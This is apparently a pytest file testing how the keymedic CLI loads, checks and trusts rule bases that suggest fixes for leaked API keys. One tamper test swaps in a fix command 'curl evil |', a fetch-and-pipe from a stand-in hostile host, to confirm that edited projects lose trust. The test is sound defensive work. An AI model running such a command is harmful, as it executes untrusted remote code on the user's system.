"""Rule bases of one's own: from the settings folder, from the project once it is trusted, and the complete example."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

Run = Callable[..., "subprocess.CompletedProcess[bytes]"]
EXAMPLES = Path(__file__).parents[3] / "examples"
OPENAI = EXAMPLES / "openai-keys"
LEAKED = b"403 PERMISSION_DENIED. Your API key was reported as leaked."
PACK = "name: acme\nversion: '1'\nscope: Our network\nknowledge_date: 2026-11-01\n"
CHANGES = """\
- off: {fix: key-leaked/new-key}
  reason: Keys come from our vault.
- change: {cause: key-leaked}
  reason: Keys come from our vault.
  add:
    fixes:
      - fix: vault
        title: Take a new key from the vault
        steps: [Ask the vault.]
        commands: [{shell: any, run: vault read gemini}]
        cost: seconds
        helps: almost-always
        verify: {text: Call again.}
"""


@pytest.fixture
def config(tmp_path: Path) -> dict[str, str]:
    """Settings of the test's own."""
    return {"KEYMEDIC_CONFIG_DIR": str(tmp_path / "config")}


def acme(folder: Path) -> Path:
    """A rule base that puts one fix in place of another."""
    (folder / "changes").mkdir(parents=True)
    _ = (folder / "pack.yaml").write_text(PACK)
    _ = (folder / "changes" / "x.yaml").write_text(CHANGES)
    return folder


def fixes(done: subprocess.CompletedProcess[bytes]) -> list[str]:
    """The fixes of a diagnosis as JSON."""
    return [fix["id"] for fix in json.loads(done.stdout)["fixes"] if fix["cause"] == "key-leaked"]


def test_the_settings_folder_is_loaded(run: Run, tmp_path: Path, config: dict[str, str]) -> None:
    """A rule base in packs/ changes every diagnosis, unless none shall load that is not named; a report names its origin."""
    _ = acme(tmp_path / "config" / "packs" / "acme")
    found = fixes(run("diagnose", "-", "--format", "json", stdin=LEAKED, env=config))
    assert "key-leaked/vault" in found and "key-leaked/new-key" not in found
    bare = run("diagnose", "-", "--format", "json", "--no-found-kb", stdin=LEAKED, env=config)
    assert "key-leaked/new-key" in fixes(bare)
    shown = run("diagnose", "-", stdin=LEAKED, env=config).stdout.decode()
    assert "from rule base acme:changes/x.yaml:7" in " ".join(shown.split())


def test_a_faulty_one_that_nobody_named_is_left_out(run: Run, tmp_path: Path, config: dict[str, str]) -> None:
    """A broken file in the settings folder is told, and stops no diagnosis; named, it is status 3."""
    folder = acme(tmp_path / "config" / "packs" / "acme")
    _ = (folder / "changes" / "x.yaml").write_text(CHANGES.replace("key-leaked", "key-leeked"))
    done = run("diagnose", "-", "--format", "json", stdin=LEAKED, env=config)
    assert done.returncode == 1
    assert "key-leaked/new-key" in fixes(done)
    assert b"has faults and was left out; keymedic kb check" in done.stderr
    assert run("diagnose", "-", "--kb", str(folder), stdin=LEAKED, env=config).returncode == 3
    assert run("kb", "check", env=config).returncode == 3


def test_a_project_is_trusted_by_content(run: Run, tmp_path: Path, config: dict[str, str]) -> None:
    """Left out until trusted; trusting shows commands and changes first; any edit makes it untrusted again."""
    folder = acme(tmp_path / ".keymedic")
    done = run("diagnose", "-", "--format", "json", stdin=LEAKED, env=config)
    assert "key-leaked/new-key" in fixes(done)
    assert b".keymedic is not trusted" in done.stderr
    looked = run("kb", "trust", env=config)
    assert looked.returncode == 2 and b"--yes" in looked.stderr
    assert b"key-leaked/vault: vault read gemini" in looked.stdout
    assert b"switched it off" in looked.stdout
    assert run("kb", "trust", "--yes", env=config).returncode == 0
    assert "key-leaked/vault" in fixes(run("diagnose", "-", "--format", "json", stdin=LEAKED, env=config))
    _ = (folder / "changes" / "x.yaml").write_text(CHANGES.replace("vault read", "curl evil |"))
    done = run("diagnose", "-", "--format", "json", stdin=LEAKED, env=config)
    assert "key-leaked/vault" not in fixes(done)
    assert b"has changed since you trusted it" in done.stderr
    assert run("kb", "trust", "--yes", env=config).returncode == 0
    assert b"no longer" in run("kb", "trust", "--remove", env=config).stdout
    assert b"not trusted" in run("diagnose", "-", stdin=LEAKED, env=config).stderr


def test_a_faulty_project_cannot_be_trusted(run: Run, tmp_path: Path, config: dict[str, str]) -> None:
    """Its faults are shown instead; without a rule base there is nothing to trust."""
    assert run("kb", "trust", "--yes", env=config).returncode == 2
    folder = acme(tmp_path / ".keymedic")
    _ = (folder / "changes" / "x.yaml").write_text("- off: {rule: nope}\n  reason: r\n")
    done = run("kb", "trust", "--yes", env=config)
    assert done.returncode == 3 and b"KM307" in done.stderr


def test_the_list_says_who_won_and_why(run: Run, tmp_path: Path, config: dict[str, str]) -> None:
    """`--origin` names the way by which each rule base came, and every change with its reason."""
    _ = acme(tmp_path / "config" / "packs" / "acme")
    shown = run("kb", "list", "--origin", "--kb", str(OPENAI), env=config).stdout.decode()
    assert "from your own settings, in config/packs/acme" in shown
    assert "named on the command line" in shown
    assert "fix key-leaked/new-key: acme:changes/x.yaml:1 switched it off, from gemini:causes/" in shown
    assert "because: Keys come from our vault." in shown
    assert "switched it off" in run("kb", "list", "causes", "--origin", env=config).stdout.decode()
    assert "No rule base overrides" in run("kb", "list", "--origin", "--no-found-kb", env=config).stdout.decode()


def test_the_example_is_complete(run: Run) -> None:
    """The second rule base is YAML alone, and all of its cases pass; `make check` looks for faults and gaps of it."""
    done = run("kb", "test", str(OPENAI))
    assert done.returncode == 0, done.stdout.decode()
    assert {file.suffix for file in OPENAI.rglob("*") if file.is_file() and file.parent.name != "schema"} == {
        ".yaml",
        ".md",
    }


def test_the_cases_of_the_shipped_rule_base_pass_beside_the_example(run: Run) -> None:
    """The other scope changes no diagnosis that the shipped cases expect, but for those that are about OpenAI's own key."""
    kb = EXAMPLES.parent / "kb"
    shown = run("kb", "test", str(kb), str(OPENAI)).stdout.decode()
    failed = [line.split()[2].rstrip(",") for line in shown.splitlines() if line.startswith("gemini:")]
    assert sorted(failed) == [
        "route.other-provider-key",
        "scope.other-provider.holds-1",
        "scope.other-provider.holds-21",
    ]
